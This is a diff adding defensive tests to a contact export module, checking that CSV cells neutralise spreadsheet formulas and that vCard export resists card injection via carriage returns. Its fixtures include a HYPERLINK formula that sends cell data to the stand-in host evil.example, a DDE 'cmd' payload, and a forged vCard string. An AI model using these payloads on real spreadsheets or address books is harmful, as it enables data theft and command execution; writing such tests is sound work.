@@ -96,3 +96,69 @@ def test_an_import_stopped_halfway_can_be_run_again_without_duplicates(directory
     summary = imports.apply(directory, Book(pbx), batch, imports.SKIP)
     assert (summary["created"], summary["skipped"]) == (0, 11)
     assert len(books.list_entries(directory, Book(pbx))) == 11
+
+
+# --- exports that a spreadsheet or an address book cannot be tricked by (issue 11, point 11) ---------------
+
+FORMULAS = Contact(given_name='=HYPERLINK("https://evil.example/?d="&A2;"Klick")', surname="@SUM(1+1)",
+                   company="+SUM(1)", title="-2+3", email="\t=1+1@x.example", phone="+49 30 1234567",
+                   note="\r=cmd|' /C calc'!A0")
+
+
+def test_csv_export_neutralises_formulas_and_keeps_numbers_readable(directory, pbx, make_customer):
+    import csv
+    import io
+    books.save_entry(directory, Book(pbx), Contact(**FORMULAS.values()))
+    exported = transfer.export_csv(books.list_entries(directory, Book(pbx)))
+    header, row = list(csv.reader(io.StringIO(exported)))
+    cells = dict(zip(header, row))
+    assert cells["phone"] == "+49301234567"  # a number in E.164 stays as it is: nothing to run, easy to read
+    for name in ("given_name", "surname", "company", "title", "email", "note"):
+        assert cells[name].startswith("'"), (name, cells[name])  # a spreadsheet shows it as text
+    assert cells["company"] == "'+SUM(1)"
+    assert exported.startswith('"given_name","surname"')  # every cell quoted: no ";" splits a cell in two
+
+    target = Book(make_customer().pbx)
+    batch = _batch(target.pbx, exported.encode(), "csv")
+    assert imports.apply(directory, target, batch, imports.SKIP)["created"] == 1
+    [again] = books.list_entries(directory, target)
+    assert again.values() == books.list_entries(directory, Book(pbx))[0].values()
+    assert again.company == "+SUM(1)" and again.note == "=cmd|' /C calc'!A0"
+
+
+def test_a_value_that_starts_with_an_apostrophe_survives_the_round_trip(directory, pbx, make_customer):
+    books.save_entry(directory, Book(pbx), Contact(surname="'s Gravenhage", company="''quoted", note="'=x"))
+    exported = transfer.export_csv(books.list_entries(directory, Book(pbx)))
+    target = Book(make_customer().pbx)
+    imports.apply(directory, target, _batch(target.pbx, exported.encode(), "csv"), imports.SKIP)
+    [again] = books.list_entries(directory, target)
+    assert (again.surname, again.company, again.note) == ("'s Gravenhage", "''quoted", "'=x")
+
+
+def test_a_bare_cr_in_a_note_cannot_inject_a_card(directory, pbx, make_customer):
+    injected = "harmlos\rEND:VCARD\rBEGIN:VCARD\rVERSION:3.0\rN:Eingeschleust;;;;\rFN:Eingeschleust\rTEL:+4930666"
+    # As an entry may hold it in LDAP already (written before the console stored line breaks as LF) …
+    card = transfer.export_vcard([Contact(surname="Opfer", note=injected)])
+    rows = transfer.parse_vcard(card)
+    assert [r.contact.surname for r in rows] == ["Opfer"]
+    assert rows[0].contact.note == injected.replace("\r", "\n")
+    assert "\r" not in card.replace("\r\n", "")  # no line break but the line ends
+    # … and as the console saves and exports it now, re-imported into another book.
+    books.save_entry(directory, Book(pbx), Contact(surname="Opfer", note=injected))
+    content = transfer.export_vcard(books.list_entries(directory, Book(pbx))).encode()
+    target = Book(make_customer().pbx)
+    assert imports.apply(directory, target, _batch(target.pbx, content, "vcard"), imports.SKIP)["created"] == 1
+    assert [(c.surname, c.note) for c in books.list_entries(directory, target)] == [
+        ("Opfer", injected.replace("\r", "\n"))]
+
+
+def test_vcard_lines_are_folded_at_75_octets(directory, pbx, make_customer):
+    long = Contact(surname="Müller-Lüdenscheidt", company="Ä" * 60, note="Größere Wartung; siehe Notiz, " * 8)
+    books.save_entry(directory, Book(pbx), Contact(**long.values()))
+    card = transfer.export_vcard(books.list_entries(directory, Book(pbx)))
+    lines = card.split("\r\n")[:-1]
+    assert max(len(line.encode()) for line in lines) <= 75 and any(line.startswith(" ") for line in lines)
+    target = Book(make_customer().pbx)
+    imports.apply(directory, target, _batch(target.pbx, card.encode(), "vcard"), imports.SKIP)
+    [again] = books.list_entries(directory, target)
+    assert again.values() == books.list_entries(directory, Book(pbx))[0].values()
